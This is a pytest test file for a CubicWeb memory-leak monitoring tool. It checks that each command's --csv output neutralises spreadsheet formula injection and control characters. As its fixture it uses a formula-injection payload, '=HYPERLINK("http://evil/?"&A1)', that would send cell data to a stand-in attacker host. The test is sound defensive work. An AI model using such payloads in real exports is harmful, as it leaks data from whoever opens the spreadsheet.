"""``--csv``: every answer that is a table, for a spreadsheet, whatever hostile names are in it."""

import csv
import io
from typing import Any

import pytest
from face_data import HOSTILE, finding, process, report, restart, sample, status

from cubicweb_leakwatch.commands import COMMANDS
from cubicweb_leakwatch.commands.base import Command
from cubicweb_leakwatch.commands.csv_text import Table, as_csv

FORMULA = '=HYPERLINK("http://evil/?"&A1)\n@SUM(1)'
FIGURES = {"sent": 10, "failed": 0, "p50_ms": 1.5, "p99_ms": 2.5, "max_ms": 3.5, "gap_ms": 4.5}
KEPT = {"type": FORMULA, "count": 3, "bytes": 300, "retained": 400, "delta": -2}
ANSWERS: dict[str, Any] = {
    "leak-status": status(process(name=FORMULA), process("scheduler", uss=None)),
    "leak-gc": [report(types=[KEPT, {**KEPT, "type": HOSTILE}])],
    "leak-holders": {
        "type": FORMULA,
        "groups": [{"count": 3, "share": 0.5, "root": HOSTILE, "path": [FORMULA, ".x"], "text": FORMULA}],
    },
    "leak-analyze": {"types": [KEPT]},
    "leak-trace": {"lines": [{"file": FORMULA, "line": 7, "function": HOSTILE, "count": 2, "bytes": 99}]},
    "leak-history": [sample(1.5, note=FORMULA), sample(2.5, uss=7)],
    "leak-findings": [finding(process=FORMULA, holder=HOSTILE)],
    "leak-diagnose": [finding(holder=FORMULA)],
    "leak-restart": [restart(reason=FORMULA)],
    "leak-drill": {"all": FIGURES, "inside": FIGURES, "outside": FIGURES, "failed": 0, "replaced": 5},
    "leak-doctor": {"problems": [{"code": "W001", "message": FORMULA, "hint": HOSTILE}], "checks": 9},
}  # fmt: skip
TABLES = [command.load() for command in COMMANDS if command.load().has_csv]


def answer(command: type[Command], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> list[str]:
    """Return the lines that a command prints under ``--csv``, with a stand-in for what it measures."""
    monkeypatch.setattr(command, "data", lambda _self, _asked: ANSWERS[command.name])
    argument = "here.dump" if command.arguments[0].metavar == "FILE" else "site"
    rest = [argument.metavar for argument in command.arguments[1:]]
    command().main_run([argument, *rest, "--csv"])
    told = capsys.readouterr()
    assert told.err == "", "talk beside a table is for people"
    return told.out.splitlines()


def test_every_answer_that_is_a_table_is_one() -> None:
    """No command is forgotten here, and none that has a table lacks the option."""
    assert {command.name for command in TABLES} == set(ANSWERS)


@pytest.mark.parametrize("command", TABLES, ids=lambda command: str(command.name))
def test_a_spreadsheet_reads_it_as_data(
    command: type[Command], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """One line a row, as many fields in each as the header has, none of which is computed or breaks the line."""
    lines = answer(command, monkeypatch, capsys)
    header, *rows = csv.reader(lines)
    assert rows, "nothing was told"
    assert len(lines) == 1 + len(rows)
    assert len(set(header)) == len(header)
    assert all(len(row) == len(header) for row in rows)
    fields = [field for row in rows for field in row]
    texts = [field for field in fields if not field.lstrip("-").replace(".", "").isdecimal()]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
    assert not [text for text in fields if any(ord(character) < 32 for character in text)]


def test_unknown_is_empty_and_a_number_is_a_number() -> None:
    """Never n/a, never 0; a negative number is no formula, a list is its JSON."""
    rows = [{"a": None, "b": -2.5, "c": True, "d": ["x", 1]}, {"a": "-2", "b": "＝1", "c": " =1", "d": "\t=1"}]
    lines = list(as_csv(Table(("a", "b", "c", "d"), rows)))
    assert next(csv.reader(io.StringIO(lines[1]))) == ["", "-2.5", "true", '["x", 1]']
    assert next(csv.reader(io.StringIO(lines[2]))) == ["'-2", "'＝1", "' =1", "\\t=1"]


def test_json_and_csv_at_once_are_refused(capsys: pytest.CaptureFixture[str]) -> None:
    """In one line, as the document that was asked for."""
    assert TABLES[0]().main_run(["site", "--csv", "--json"]) == 4
    assert "choose one" in capsys.readouterr().out
